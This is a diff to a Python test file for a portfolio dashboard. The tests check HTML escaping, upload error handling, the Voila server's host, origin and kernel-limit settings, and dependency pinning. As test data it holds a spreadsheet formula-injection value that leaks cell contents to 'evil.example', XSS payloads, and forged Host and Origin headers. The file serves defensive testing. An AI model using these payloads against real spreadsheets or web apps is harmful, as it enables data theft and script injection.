@@ -8,11 +8,14 @@ killed batch, ``--scheduler``) are in ``test_batch.py``.
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import os
 import pickle
 import shutil
 import subprocess
+import sys
+import time
 import warnings
 import zipfile
 from pathlib import Path
@@ -31,7 +34,7 @@ from pma_lab.files import (
     write_csv,
     write_xlsx,
 )
-from pma_lab.paths import clients_dir
+from pma_lab.paths import clients_dir, repo_root
 
 EVIL_LOTS = {0: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', 1: "@SUM(1+1)",
              2: "+L3", 3: "-2+3"}
@@ -315,3 +318,264 @@ def test_cache_rejects_tampered_numbers_and_misfiled_entries(tmp_path, monkeypat
 
     with pytest.warns(CacheWarning, match="does not match its key"):
         assert cached("risk", ("another key",), lambda: 42) == 42
+
+
+# ------------------------------------------------------------------- dashboard widgets
+def _dashboard_upload():
+    from pma_lab.dashboard import HoldingsUpload
+
+    up = HoldingsUpload()
+    up.profile_path = str(clients_dir() / "household" / "profile.toml")
+    assert up.client is not None
+    return up
+
+
+def _browser_message(up, content: dict, data: bytes | None = None) -> None:
+    """A message from the browser's file picker, delivered through the widget's comm."""
+    up._upload._handle_msg({"content": {"data": {"method": "custom", "content": content}},
+                            "buffers": [memoryview(data)] if data is not None else []})
+
+
+def test_dashboard_escapes_every_user_string():
+    from pma_lab.dashboard import RestrictionEditor
+
+    up = _dashboard_upload()
+    lots = (clients_dir() / "household" / "household_lots.csv").read_bytes()
+    name = "<img src=x onerror=alert(1)>.csv"
+    _browser_message(up, {"event": "file", "name": name, "size": len(lots)}, lots)
+    assert up.source == f"{name} (uploaded)"
+    assert "<img" not in up._info.value and "&lt;img src=x onerror=alert(1)&gt;" in up._info.value
+    ed = RestrictionEditor()
+    ed.client = up.client
+    ed.set_no_buy("<script>alert(1)</script>, <img/src=x/onerror=alert(2)>")
+    assert "<script>" not in ed._note.value and "<img" not in ed._note.value
+    assert "&lt;script&gt;" in ed._note.value
+
+
+def test_every_upload_failure_is_shown_and_keeps_the_proposal(tmp_path):
+    up = _dashboard_upload()
+    before, source = up.client, up.source
+    # a workbook with malformed XML: the reader raises an unexpected (non-pma_lab) error
+    broken = tmp_path / "broken.xlsx"
+    with zipfile.ZipFile(broken, "w") as z:
+        z.writestr("[Content_Types].xml", "<x")
+        z.writestr("xl/workbook.xml", "<<")
+    assert not up.handle_upload(broken.name, broken.read_bytes())
+    assert "broken.xlsx was not loaded" in up._panel.value
+    assert up.client is before and up.source == source
+    assert f"The proposal still shows {source}" in up.error
+    # refused in the browser: only the name and the size arrive
+    _browser_message(up, {"event": "too_large", "name": "big.csv", "size": 20_000_000})
+    assert "big.csv was not loaded: it is 19.1 MB; the limit is 5.0 MB" in up._panel.value
+    # a hostile message (wrong types, no buffer) is reported, never raised
+    _browser_message(up, {"event": "too_large", "name": None, "size": "lots"})
+    assert "pma-error-panel" in up._panel.value and "The upload failed" in up._panel.value
+    _browser_message(up, {"event": "file", "name": "x.csv", "size": 10})
+    assert "x.csv was not loaded" in up._panel.value
+    # bytes over the limit that bypass the browser's check are refused here as well
+    _browser_message(up, {"event": "file", "name": "y.csv", "size": 1},
+                     b"0" * (up.max_bytes + 1))
+    assert "y.csv was not loaded: it is" in up._panel.value
+    assert up.client is before
+
+
+# ------------------------------------------------------------------- dashboard server
+VOILA_JSON = repo_root() / "notebooks" / "voila.json"
+TOKEN = "test-token-0123456789abcdef"
+
+
+def test_voila_json_restricts_hosts_caps_kernels_and_culls_within_a_minute():
+    import json
+
+    cfg = json.loads(VOILA_JSON.read_text())
+    t = cfg["Voila"]["tornado_settings"]
+    assert cfg["Voila"]["ip"] == "127.0.0.1"
+    assert t["allow_remote_access"] is False and t["local_hostnames"] == ["localhost"]
+    assert "allow_origin" not in t and "allow_origin_pat" not in t
+    # an upload larger than the websocket allows would drop the connection: the browser
+    # refuses files over the widget's limit, which stays below the server's
+    from pma_lab.dashboard.widgets import MAX_UPLOAD_BYTES
+
+    assert MAX_UPLOAD_BYTES < t["websocket_max_message_size"] <= 16 * 2**20
+    vc = cfg["VoilaConfiguration"]
+    assert vc["multi_kernel_manager_class"] == "pma_lab.dashboard.server.CappedKernelManager"
+    assert 1 <= cfg["CappedKernelManager"]["max_kernels"] <= 8
+    k = cfg["MappingKernelManager"]
+    assert k["cull_idle_timeout"] + k["cull_interval"] <= 60 and k["cull_connected"] is False
+
+
+def _tiny_dashboard(folder: Path) -> Path:
+    import nbformat
+
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell("print('dashboard')")]
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
+                                 "language": "python"}
+    nbformat.write(nb, folder / "tiny.ipynb")
+    shutil.copy(VOILA_JSON, folder / "voila.json")  # the settings under test
+    return folder / "tiny.ipynb"
+
+
+@pytest.fixture(scope="module")
+def voila_server(tmp_path_factory):
+    """Voila with notebooks/voila.json on a tiny notebook: 2 kernels at most, culling after
+    5 s (the real 45 s are checked in the file), a login token."""
+    import socket
+
+    folder = tmp_path_factory.mktemp("voila")
+    _tiny_dashboard(folder)
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    log = folder / "voila.log"
+    exe = Path(sys.executable).parent / "voila"
+    cmd = [str(exe), "tiny.ipynb", "--no-browser", f"--port={port}", f"--Voila.token={TOKEN}",
+           "--CappedKernelManager.max_kernels=2", "--CappedKernelManager.refill_poll=0.5",
+           "--MappingKernelManager.cull_idle_timeout=5",
+           "--MappingKernelManager.cull_interval=1"]
+    with open(log, "wb") as fh:
+        proc = subprocess.Popen(cmd, cwd=folder, stdout=fh, stderr=subprocess.STDOUT)
+    try:
+        t0 = time.monotonic()
+        while "is filled" not in log.read_text(errors="replace"):
+            assert proc.poll() is None, log.read_text()
+            assert time.monotonic() - t0 < 120, log.read_text()
+            time.sleep(0.2)
+        yield {"port": port, "log": log}
+    finally:
+        proc.terminate()
+        try:
+            proc.wait(timeout=30)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+
+
+def _get(port: int, host: str | None = None, token: bool = True):
+    import http.client
+
+    c = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
+    c.request("GET", f"/?token={TOKEN}" if token else "/",
+              headers={"Host": host or f"127.0.0.1:{port}"})
+    r = c.getresponse()
+    body = r.read().decode(errors="replace")
+    cookie = "; ".join(v.split(";")[0] for k, v in r.getheaders() if k.lower() == "set-cookie")
+    return r.status, body, cookie
+
+
+def _ws(port: int, kernel: str, host: str, origin: str | None, cookie: str,
+        pad: int = 0) -> tuple[int, str | None]:
+    """Open the kernel's websocket as a logged-in browser would (the login cookie, no
+    token in the URL: token requests skip the origin check by design).
+
+    Returns the HTTP status (101 when accepted) and, when ``pad`` > 0, what happened to a
+    ``kernel_info_request`` padded to ``pad`` bytes: ``"reply"`` or ``"closed"``.
+    """
+    import asyncio
+    import json
+    import uuid
+
+    from tornado.httpclient import HTTPClientError, HTTPRequest
+    from tornado.iostream import StreamClosedError
+    from tornado.websocket import WebSocketClosedError, websocket_connect
+
+    async def go():
+        headers = {"Host": host, "Cookie": cookie, **({"Origin": origin} if origin else {})}
+        req = HTTPRequest(f"ws://127.0.0.1:{port}/api/kernels/{kernel}/channels",
+                          headers=headers)
+        try:
+            conn = await websocket_connect(req)
+        except HTTPClientError as e:
+            return e.code, None
+        outcome = None
+        if pad:
+            msg_id = uuid.uuid4().hex
+            msg = {"header": {"msg_id": msg_id, "msg_type": "kernel_info_request",
+                              "session": uuid.uuid4().hex, "username": "test",
+                              "version": "5.3", "date": "2026-01-01T00:00:00Z"},
+                   "parent_header": {}, "metadata": {"pad": "x" * pad}, "content": {},
+                   "channel": "shell", "buffers": []}
+            with contextlib.suppress(WebSocketClosedError, StreamClosedError):
+                await conn.write_message(json.dumps(msg))
+            outcome = "closed"
+            while (m := await asyncio.wait_for(conn.read_message(), 30)) is not None:
+                if isinstance(m, str) and msg_id in m and "kernel_info_reply" in m:
+                    outcome = "reply"
+                    break
+        conn.close()
+        return 101, outcome
+
+    return asyncio.run(go())
+
+
+@pytest.mark.slow
+def test_voila_refuses_foreign_hosts_and_origins_caps_and_culls(voila_server):
+    import re
+
+    port, log = voila_server["port"], voila_server["log"]
+    local = f"127.0.0.1:{port}"
+    # a foreign Host header (DNS rebinding) is refused, with a valid token even
+    assert _get(port, host=f"evil.example:{port}")[0] == 403
+    assert _get(port, token=False)[0] in (302, 403)  # no token: the login page
+    status, page, cookie = _get(port)
+    assert status == 200 and "dashboard" in page and cookie
+    kernel = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', page).group(1)
+    # the kernel's websocket: refused when Host and Origin are both foreign, or when the
+    # Origin is foreign; accepted from the page's own origin
+    evil = f"evil.example:{port}"
+    assert _ws(port, kernel, evil, f"http://{evil}", cookie)[0] == 403
+    assert _ws(port, kernel, local, "http://evil.example", cookie)[0] == 403
+    assert _ws(port, kernel, local, f"http://{local}", cookie) == (101, None)
+    # a message over websocket_max_message_size closes the connection; below it, a reply
+    assert _ws(port, kernel, local, f"http://{local}", cookie, pad=2**20) == (101, "reply")
+    assert _ws(port, kernel, local, f"http://{local}", cookie, pad=9 * 2**20) == (101,
+                                                                                 "closed")
+    # two sessions at most: the third page load is refused with a message, no kernel
+    assert _get(port)[0] == 200
+    status, page, _ = _get(port)
+    assert status == 503 and "maximum of 2 sessions" in page
+    # pages that never connect lose their kernels to the culler, and room frees up
+    t0 = time.monotonic()
+    while "Culling 'idle' kernel" not in log.read_text(errors="replace"):
+        assert time.monotonic() - t0 < 60, log.read_text()
+        time.sleep(0.5)
+    t0 = time.monotonic()
+    while (status := _get(port)[0]) == 503 and time.monotonic() - t0 < 60:
+        time.sleep(1)
+    assert status == 200
+
+
+# ------------------------------------------------------------------------ dependencies
+def test_make_setup_installs_the_pinned_versions():
+    """constraints.txt pins every package pma_lab[dev] needs; make setup installs them."""
+    import importlib.metadata as md
+    import re
+
+    from packaging.requirements import Requirement
+    from packaging.utils import canonicalize_name
+
+    root = repo_root()
+    pins = {}
+    for line in (root / "constraints.txt").read_text().splitlines():
+        if line.strip() and not line.startswith("#"):
+            name, _, version = line.partition("==")
+            pins[canonicalize_name(name)] = version.strip()
+    setup = (root / "Makefile").read_text().split("\n$(STAMP):", 1)[1].split("\n\n", 1)[0]
+    assert re.search(r"pip install .*-c constraints\.txt -e '\.\[dev\]'", setup)
+    # every package reachable from pma_lab[dev] is pinned, at the version installed
+    todo, seen = [("pma_lab", {"dev"})], set()
+    while todo:
+        name, extras = todo.pop()
+        for spec in md.requires(name) or []:
+            req = Requirement(spec)
+            env = [{"extra": e} for e in (extras or {""})]
+            if req.marker and not any(req.marker.evaluate(e) for e in env):
+                continue
+            key = canonicalize_name(req.name)
+            if key == "rfc3987-syntax":  # removed after every install (see the Makefile)
+                continue
+            assert key in pins, f"{req.name} is not pinned in constraints.txt (make lock)"
+            assert md.version(req.name) == pins[key], req.name
+            if (key, frozenset(req.extras)) not in seen:
+                seen.add((key, frozenset(req.extras)))
+                todo.append((req.name, set(req.extras)))
+    assert {"voila", "papermill", "cvxpy", "distributed", "entrypoints"} <= {k for k, _ in seen}
